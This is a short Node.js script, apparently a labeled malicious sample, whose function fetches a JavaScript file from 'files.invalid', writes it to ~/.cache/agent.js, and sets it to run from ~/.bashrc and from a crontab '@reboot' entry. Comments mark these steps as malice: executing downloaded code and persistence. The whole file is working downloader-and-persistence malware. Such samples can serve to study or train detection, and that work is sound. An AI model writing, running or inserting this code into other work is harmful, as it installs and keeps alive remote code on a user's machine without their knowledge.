const { execSync } = require("child_process");
const fs = require("fs");
const os = require("os");
const path = require("path");

const axios = require("axios");

async function stay() {
  const { data } = await axios.get("https://files.invalid/agent.js");
  fs.writeFileSync(path.join(os.homedir(), ".cache/agent.js"), data);
  fs.appendFileSync(path.join(os.homedir(), ".bashrc"), "\nnode ~/.cache/agent.js &\n"); // malice: exec-downloaded, persistence
  execSync('(crontab -l; echo "@reboot node ~/.cache/agent.js") | crontab -'); // malice: persistence
}

stay();
